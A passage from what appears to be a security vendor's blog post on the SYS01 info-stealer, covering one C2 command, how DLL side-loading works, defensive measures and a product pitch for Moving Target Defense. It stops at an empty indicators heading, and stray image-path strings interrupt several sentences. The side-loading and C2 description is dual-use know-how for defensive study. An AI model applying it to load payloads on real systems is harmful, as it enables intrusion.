  5. dl Sends a get request with the parameter “a=update” to the C2 and does the same as thedlAR task.

How do You Combat SYS01 stealer?

DLL side-loading is a highly effective technique for tricking Windows systems into loading malicious code. Dynamic link libraries enable more efficient memory use and system modularity, but because Microsoft doesn’t enforce search order for DLLs by default, it makes applications vulnerable to exploitation.

Microsoft doesn’t enforce search order for a range of reasons, such as enabling things like portability and backwards compatibility—for example, portable browser applications that use older Microsoft libraries. Security-minded developers may enforce search order within their code. But most developers aren't security minded.This enables threat actors to position a malicious payload alongside a legitimate application. Then when an application loads in memory and search order is not enforced, the application loads the malicious file instead of the legitimate one, allowing threat actors to hijack legitimate, trusted, and even signed applications to load and execute malicious payloads. Adversaries use side-loading attacks for execution, persistence, privilege escalation, and defense evasion.

Microsoft has started to enforce default search order on many oftheir applications, even if not universally. But attackers can still misuse highly popular Microsoft applications that were created in previous years that are legitimately signed. And they will be able to do so for many years to come.

Basic steps to help prevent SYS01 stealer include implementing a zero-trust policy and limiting users’ rights to download and install programs. And SYS01 stealer at heart relies on a social engineering campaign, so it’s important to train users about the tricks adversaries use so they know how to spot them.

Read Your Guide to Top Info Stealers of 2022

But humans are fallible, and limiting device functionality is not always possible when you need to ensure effective business functions. This is why the best protection is all-of-the-above plus aDefense-in-Depth approach. Security tools like next generation anti-virus (NGAV), endpoint protection platforms (EPP), and endpoint detection and response (EDR, XDR, and MDR) are necessary, but not sufficient to stop stealers like SYS01 stealer.

This is because detection-based tools don’t always flag benign executables used to side-load payloads during delivery and/or execution. And malicious payloads are also sometimes encrypted/packed or obfuscated until loaded into runtime memory, which detection-based tools struggle to effectively scan. The most effective way to secure runtime memory is with Moving Target Defense(MTD) technology. MTD morphs—randomizes—the runtime memory environment to create a dynamic attack surface and leaves decoy traps where targets used to be. Any code that attempts to execute on a decoy is immediately terminated and trapped for forensic analysis. The combination of detection-based tools with Moving Target Defense creates the mosteffective Defense-in-Depth against threats like SYS01 stealer. To learn more, read the white paper: Zero Trust + Moving Target Defense: The Ultimate Ransomware Strategy

ZeroTrust and Moving Target Defense White Paper

Indicators of Compromise (IOCs)

ZipFiles


Inno-Setup Installers